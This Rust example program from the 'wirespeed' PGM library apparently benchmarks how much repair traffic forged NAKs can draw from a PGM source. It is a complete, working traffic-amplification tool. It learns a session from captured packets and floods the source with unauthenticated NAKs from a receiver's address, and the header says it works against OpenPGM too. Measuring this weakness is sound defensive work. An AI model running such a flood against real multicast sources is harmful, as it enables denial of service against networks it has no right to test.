//! BENCHMARKS.md 14f's forger: what NAKs nobody can authenticate make a PGM source send.
//!
//! Joins a PGM session's group (or listens where a unicast session's data arrives), learns the
//! session from the first ODATA and the NAK address from the SPMs, as anyone who sees one
//! packet can, then sends NAKs of `--sqns` in-window sequence numbers (sweeping the last
//! `--back` sent) at `--naks-per-s` for `--seconds`, from this host's own address: a
//! receiver's address, so address checks cannot tell it apart. It prints one JSON line: NAKs
//! and their bytes on the wire (IP and UDP headers counted), and the RDATA it saw meanwhile
//! (a lower bound: its socket may drop some; the source's own counters are the figure).
//!
//! Works against any PGM source over UDP encapsulation (wirespeed's, OpenPGM's). Run it only
//! against sources of your own, in a namespace or on a test network.
//!
//! ```sh
//! cargo run --example pgm_nak_flood -- --listen 239.192.0.1:7900 --iface 198.18.99.2
//! ```

use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};
use wirespeed::pgm::packet::{self, NakKind, Packet};
use wirespeed::pgm::Tsi;

struct Opts {
    listen: SocketAddr,
    iface: Ipv4Addr,
    naks_per_s: f64,
    seconds: f64,
    sqns: usize,
    back: u32,
    start_at: u32,
}

fn opts() -> Result<Opts, String> {
    let mut o = Opts {
        listen: "0.0.0.0:0".parse().unwrap(),
        iface: Ipv4Addr::UNSPECIFIED,
        naks_per_s: 1000.0,
        seconds: 2.0,
        sqns: 63,
        back: 7000,
        start_at: 7100,
    };
    let a: Vec<String> = std::env::args().skip(1).collect();
    let mut i = 0;
    while i < a.len() {
        let v = a.get(i + 1).ok_or_else(|| format!("{} needs a value", a[i]))?;
        let bad = |e: &dyn std::fmt::Display| format!("{} {v}: {e}", a[i]);
        match a[i].as_str() {
            "--listen" => o.listen = v.parse().map_err(|e| bad(&e))?,
            "--iface" => o.iface = v.parse().map_err(|e| bad(&e))?,
            "--naks-per-s" => o.naks_per_s = v.parse().map_err(|e| bad(&e))?,
            "--seconds" => o.seconds = v.parse().map_err(|e| bad(&e))?,
            "--sqns" => o.sqns = v.parse().map_err(|e| bad(&e))?,
            "--back" => o.back = v.parse().map_err(|e| bad(&e))?,
            "--start-at" => o.start_at = v.parse().map_err(|e| bad(&e))?,
            other => return Err(format!("unknown option {other}")),
        }
        i += 2;
    }
    if o.listen.port() == 0 || !(1..=63).contains(&o.sqns) || o.back < o.sqns as u32 + 100 {
        return Err(
            "give --listen ADDR:PORT (the session's address and port), --sqns 1..63, --back > sqns + 100".into()
        );
    }
    Ok(o)
}

#[derive(Default)]
struct Seen {
    tsi: Option<Tsi>,
    dport: u16,
    nla: Option<IpAddr>,
    lead: u32,
    rdata: u64,
    odata: u64,
}

fn read(sock: &UdpSocket, buf: &mut [u8], seen: &mut Seen) {
    while let Ok(n) = sock.recv(buf) {
        match packet::parse(&buf[..n]) {
            Ok(Packet::Spm { nla, .. }) => seen.nla = Some(nla),
            Ok(Packet::Data { hdr, repair: false, sqn, .. }) => {
                seen.tsi = Some(Tsi { gsi: hdr.gsi, sport: hdr.sport });
                seen.dport = hdr.dport;
                seen.odata += 1;
                if wirespeed::pgm::sqn_lt(seen.lead, sqn) {
                    seen.lead = sqn;
                }
            }
            Ok(Packet::Data { repair: true, .. }) => seen.rdata += 1,
            _ => {}
        }
    }
}

fn main() {
    let o = match opts() {
        Ok(o) => o,
        Err(e) => {
            eprintln!("pgm_nak_flood: {e}");
            std::process::exit(2);
        }
    };
    // The session's own address (a group, or the unicast address the data goes to): a source
    // on this host holds its NAK port on another address, so the two do not collide.
    let bind = o.listen;
    let sock = UdpSocket::bind(bind).unwrap_or_else(|e| panic!("bind {bind}: {e}"));
    if let IpAddr::V4(g) = o.listen.ip() {
        if g.is_multicast() {
            sock.join_multicast_v4(&g, &o.iface).unwrap_or_else(|e| panic!("join {g}: {e}"));
        }
    }
    sock.set_nonblocking(true).unwrap();
    let naks = UdpSocket::bind(SocketAddr::new(IpAddr::V4(o.iface), 0)).expect("bind the NAK socket");
    let mut buf = vec![0u8; 65536];
    let mut seen = Seen::default();
    let t0 = Instant::now();
    while seen.tsi.is_none() || seen.nla.is_none() || seen.lead < o.start_at {
        read(&sock, &mut buf, &mut seen);
        assert!(t0.elapsed() < Duration::from_secs(60), "no session seen in 60 s");
        std::thread::sleep(Duration::from_micros(200));
    }
    let (tsi, nla) = (seen.tsi.unwrap(), seen.nla.unwrap());
    let group = o.listen.ip();
    let to = SocketAddr::new(nla, o.listen.port());
    let (rdata0, odata0) = (seen.rdata, seen.odata);
    let total = (o.naks_per_s * o.seconds).round() as u64;
    let gap = Duration::from_secs_f64(1.0 / o.naks_per_s);
    let start = Instant::now();
    let mut nak = [0u8; packet::MAX_NAK_LEN];
    let mut wire = 0u64;
    let span = o.back - o.sqns as u32 - 100;
    for k in 0..total {
        read(&sock, &mut buf, &mut seen);
        let base = seen.lead.wrapping_sub(o.back) + ((k as u32).wrapping_mul(o.sqns as u32) % span);
        let list: Vec<u32> = (0..o.sqns as u32).map(|i| base.wrapping_add(i)).collect();
        let n = packet::write_nak(&mut nak, NakKind::Nak, tsi, seen.dport, &list, nla, group);
        if naks.send_to(&nak[..n], to).is_ok() {
            wire += n as u64 + 28;
        }
        // Paced by the clock from the start, so a late wake-up does not lower the rate.
        let due = start + gap * (k as u32 + 1);
        while Instant::now() < due {
            read(&sock, &mut buf, &mut seen);
            std::thread::sleep(Duration::from_micros(100));
        }
    }
    let spent = start.elapsed().as_secs_f64();
    // The repairs still on their way.
    let tail = Instant::now();
    while tail.elapsed() < Duration::from_millis(500) {
        read(&sock, &mut buf, &mut seen);
        std::thread::sleep(Duration::from_micros(200));
    }
    println!(
        "{{\"tsi\":\"{tsi}\",\"nak_address\":\"{to}\",\"naks\":{total},\"nak_sqns\":{},\"nak_wire_bytes\":{wire},\"seconds\":{spent:.3},\"rdata_seen\":{},\"odata_seen\":{}}}",
        total * o.sqns as u64,
        seen.rdata - rdata0,
        seen.odata - odata0
    );
}
